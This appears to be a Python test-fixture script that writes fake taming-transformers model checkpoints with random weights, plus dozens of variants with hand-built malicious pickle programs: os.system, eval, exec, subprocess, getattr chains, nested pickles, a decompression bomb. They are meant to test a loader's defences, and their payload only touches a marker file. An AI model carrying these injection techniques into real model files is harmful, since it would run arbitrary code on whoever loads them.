"""Checkpoints as taming-transformers' users have them, with random weights; the same with an attack inside.

    python tests/attacks/taming_checkpoint.py FOLDER

writes one honest `.yaml` and `.ckpt`, and one `.ckpt` for each attack. Most of these, loaded carelessly,
make a file called `pwned` in FOLDER.
"""

from __future__ import annotations

import io
import pickle
import struct
import sys
import types
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import torch
import yaml

DDCONFIG = {
    "double_z": False,
    "z_channels": 8,
    "resolution": 16,
    "in_channels": 3,
    "out_ch": 3,
    "ch": 32,
    "ch_mult": [1, 1],
    "num_res_blocks": 1,
    "attn_resolutions": [8],
    "dropout": 0.0,
}
F16 = DDCONFIG | {"ch_mult": [1, 1, 1, 1, 1], "resolution": 64, "attn_resolutions": [4]}
N_EMBED = 24


def settings(kind: str = "vqgan", ddconfig: dict[str, Any] = DDCONFIG) -> dict[str, Any]:
    """Taming's configuration of a `vqgan`, a `gumbel` one, or a `transformer` over one."""
    model = {
        "base_learning_rate": 4.5e-6,
        "target": "taming.models.vqgan." + ("GumbelVQ" if kind == "gumbel" else "VQModel"),
        "params": {
            "embed_dim": ddconfig["z_channels"] if kind == "gumbel" else 4,
            "n_embed": N_EMBED,
            "ddconfig": ddconfig,
            "lossconfig": {"target": "taming.modules.losses.vqperceptual.VQLPIPSWithDiscriminator"},
        },
    }
    if kind == "transformer":
        params = {
            "transformer_config": {"target": "taming.modules.transformer.mingpt.GPT"},
            "first_stage_config": model,
        }
        model = {"target": "taming.models.cond_transformer.Net2NetTransformer", "params": params}
    return {"model": model}


def weights(kind: str = "vqgan", ddconfig: dict[str, Any] = DDCONFIG) -> OrderedDict[str, torch.Tensor]:
    """A state_dict with random weights and with what a VQGAN is not made of: losses, a discriminator."""
    from clipart.models.vqgan import VqganConfig, build_network

    config = settings("gumbel" if kind == "gumbel" else "vqgan", ddconfig)["model"]["params"]
    shape = VqganConfig.model_validate(ddconfig | config | {"gumbel": kind == "gumbel"})
    with torch.random.fork_rng():
        torch.manual_seed(0)
        state = build_network(shape).state_dict()
    prefix = "first_stage_model." if kind == "transformer" else ""
    found = OrderedDict((prefix + name, value) for name, value in state.items())
    found["loss.discriminator.main.0.weight"] = torch.zeros(4, 3, 4, 4)
    found["loss.discriminator.main.3.num_batches_tracked"] = torch.tensor(9)
    found._metadata = OrderedDict({"": {"version": 1}})  # type: ignore[attr-defined]
    return found


@contextmanager
def lightning() -> Iterator[tuple[type, type]]:
    """Classes called as Lightning's are, importable while the checkpoint is written and not afterwards."""
    callback = type("ModelCheckpoint", (), {"__module__": "pytorch_lightning.callbacks.model_checkpoint"})
    attributes = type("AttributeDict", (dict,), {"__module__": "pytorch_lightning.utilities.parsing"})
    parents = ("pytorch_lightning", "pytorch_lightning.callbacks", "pytorch_lightning.utilities")
    names = (*parents, callback.__module__, attributes.__module__)
    before = {name: sys.modules.pop(name) for name in names if name in sys.modules}
    sys.modules |= {name: types.ModuleType(name) for name in names}
    for kind in (callback, attributes):
        setattr(sys.modules[kind.__module__], kind.__name__, kind)
    try:
        yield callback, attributes
    finally:
        for name in names:
            del sys.modules[name]
        sys.modules |= before


def write(
    folder: Path, kind: str = "vqgan", ddconfig: dict[str, Any] = DDCONFIG, *, legacy: bool = False
) -> tuple[Path, Path]:
    """Write `<kind>.yaml` and `<kind>.ckpt`, as Lightning saves them; return their paths."""
    (folder / f"{kind}.yaml").write_text(yaml.safe_dump(settings(kind, ddconfig)))
    state = weights(kind, ddconfig)
    first = next(iter(state.values()))
    with lightning() as (callback, attributes):
        content = {
            "epoch": 3,
            "global_step": 1000,
            "pytorch-lightning_version": "1.0.8",
            "callbacks": {callback: {"best_model_score": torch.tensor(0.5), "best_model_path": Path("x")}},
            "optimizer_states": [
                {"state": {0: {"step": 5, "exp_avg": first}}, "param_groups": [{"lr": 1e-4}]}
            ],
            "state_dict": state,
            "hyper_parameters": attributes(n_embed=N_EMBED),
        }
        torch.save(content, folder / f"{kind}.ckpt", _use_new_zipfile_serialization=not legacy)
    return folder / f"{kind}.yaml", folder / f"{kind}.ckpt"


def with_pickle(path: Path, change: Callable[[bytes], bytes], *, name: str, compress: bool = False) -> Path:
    """Copy a checkpoint to `name`, with its pickle changed."""
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(path.with_name(name), "w", method) as new:
        for entry in old.namelist():
            data = old.read(entry)
            new.writestr(entry, change(data) if entry.endswith("/data.pkl") else data)
    return path.with_name(name)


def first_runs(program: bytes) -> Callable[[bytes], bytes]:
    """Put `program`, which leaves one value, before the rest of a pickle of protocol 2."""
    return lambda data: data[:2] + program + b"0" + data[2:]


def instead_of_a_weight(program: bytes) -> Callable[[bytes], bytes]:
    """Put `program` into the state_dict, as the value of one more name."""

    def change(data: bytes) -> bytes:
        key = b"X\x11\x00\x00\x00encoder.conv_in.x"
        at = data.index(b"X\x0a\x00\x00\x00state_dict")
        at = data.index(b"(", at) + 1  # the mark before the items of the OrderedDict
        return data[:at] + key + program + data[at:]

    return change


def text(value: str) -> bytes:
    """Push a text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Call a function by name."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def programs(marker: Path) -> dict[str, bytes]:
    """Pickle programs that name what nobody else should; most of them make the file `marker` if they are run."""
    shell = text(f"touch '{marker}'")
    code = text(f"open({str(marker)!r}, 'w').close()")
    system = call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system"))
    nested = b"cos\nsystem\n(" + shell + b"tR."
    return {
        "os_system": call("os", "system", shell),
        "posix_system": call("posix", "system", shell),
        "python_2_name": call("__builtin__", "eval", code),
        "eval": call("builtins", "eval", code),
        "exec": call("builtins", "exec", code),
        "getattr_chain": system + b"(" + shell + b"tR",
        "attrgetter": call("operator", "attrgetter", text("system"))
        + b"("
        + call("builtins", "__import__", text("os"))
        + b"tR("
        + shell
        + b"tR",
        "subprocess": call("subprocess", "Popen", b"(" + text("touch") + text(str(marker)) + b"l"),
        "new_object": b"csubprocess\nPopen\n((" + text("touch") + text(str(marker)) + b"lt\x81",
        "instance": b"(" + shell + b"ios\nsystem\n",
        "object": b"(cos\nsystem\n" + shell + b"o",
        "stack_global": text("os") + text("system") + b"\x93(" + shell + b"tR",
        "dotted_name": call("torch", "serialization.os.system", shell),
        "run_module": call("runpy", "_run_code", code, b"}"),
        "importlib": call("importlib", "import_module", text("os")),
        "pickle_in_pickle": call("pickle", "loads", b"C" + bytes([len(nested)]) + nested),
        "code_object": call("types", "CodeType"),
        "partial": call("functools", "partial", b"cos\nsystem\n", shell),
        "unknown_storage": text("anything") + b"Q",
        "storage_of_an_attack": b"("
        + text("storage")
        + call("os", "system", shell)
        + text("0")
        + text("cpu")
        + b"K\x01tQ",
        "full_memory": b"Nr\xff\xff\xff\x7f",
        "extension": b"\x82\x01",
    }


def harmless_programs(marker: Path) -> dict[str, bytes]:
    """Programs that would do harm elsewhere, and here meet objects on which nothing has any effect."""
    shell = text(f"touch '{marker}'")
    nested = b"cos\nsystem\n(" + shell + b"tR."
    poison = b"}(" + text("__init__") + b"N" + text("__setstate__") + b"N" + text("first") + b"K\x07u"
    return {
        "nested_in_a_storage": call(
            "torch.storage", "_load_from_bytes", b"C" + bytes([len(nested)]) + nested
        ),
        "hub": call("torch.hub", "load", text("some/repo"), text("model")),
        "runstring": call("numpy.testing._private.utils", "runstring", shell, b"}"),
        "state_of_a_class": b"ctorch._utils\n_rebuild_tensor_v2\nN" + poison + b"\x86b",
        "state_of_a_function": b"ctorch._utils\n_rebuild_parameter\nN" + poison + b"\x86b",
        "state_of_a_dictionary": b"ccollections\nOrderedDict\n" + poison + b"b",
        "items_of_anything": b"cno.such\nThing\n)R(" + text("a") + text("b") + b"u" + b"(" + text("c") + b"e",
    }


def write_attacks(checkpoint: Path, marker: Path) -> dict[str, Path]:
    """Write every attack beside `checkpoint`, an honest one; return their paths by name."""
    found = {}
    for name, program in programs(marker).items():
        found[name] = with_pickle(checkpoint, first_runs(program), name=f"{name}.ckpt")
    for name in ("os_system", "eval"):
        inside = instead_of_a_weight(programs(marker)[name])
        found[f"{name}_in_state_dict"] = with_pickle(checkpoint, inside, name=f"{name}_in_state_dict.ckpt")
        bare = checkpoint.with_name(f"{name}_bare.ckpt")
        bare.write_bytes(b"\x80\x02" + programs(marker)[name] + b".")
        found[f"{name}_bare"] = bare
    found["compressed"] = with_pickle(checkpoint, lambda data: data, name="compressed.ckpt", compress=True)
    bomb = b"\x80\x02" + b"X\x00\x00\x00\x01" + bytes(2**24) + b"."
    found["bomb"] = with_pickle(checkpoint, lambda _: bomb, name="bomb.ckpt", compress=True)
    found["truncated_pickle"] = with_pickle(
        checkpoint, lambda data: data[:-200], name="truncated_pickle.ckpt"
    )
    found["empty_pickle"] = with_pickle(checkpoint, lambda _: b"", name="empty_pickle.ckpt")
    found["not_a_dictionary"] = with_pickle(checkpoint, lambda _: pickle.dumps([1], 2), name="list.ckpt")
    whole = checkpoint.read_bytes()
    for name, content in {
        "truncated": whole[: len(whole) // 2],
        "nothing": b"",
        "text": b"<html>404</html>",
    }.items():
        found[name] = checkpoint.with_name(f"{name}.ckpt")
        found[name].write_bytes(content)
    found["torchscript"] = checkpoint.with_name("torchscript.ckpt")
    with zipfile.ZipFile(found["torchscript"], "w") as archive:
        archive.writestr("model/data.pkl", pickle.dumps({}, 2))
        archive.writestr("model/constants.pkl", pickle.dumps((), 2))
        archive.writestr("model/code/__torch__.py", "")
    return found


def legacy_attack(checkpoint: Path, marker: Path) -> Path:
    """Put an attack into a checkpoint of torch before 1.6."""
    data = checkpoint.read_bytes()
    head = io.BytesIO(data)
    for _ in range(3):  # the magic number, the version and the machine are pickles of plain numbers
        pickle.Unpickler(head).load()  # noqa: S301 (written above)
    at = head.tell()
    path = checkpoint.with_name("legacy_attack.ckpt")
    path.write_bytes(data[: at + 2] + programs(marker)["os_system"] + b"0" + data[at + 2 :])
    return path


def main() -> None:
    """Write everything into the folder named on the command line."""
    folder = Path(sys.argv[1])
    _, checkpoint = write(folder)
    write_attacks(checkpoint, folder / "pwned")


if __name__ == "__main__":
    main()
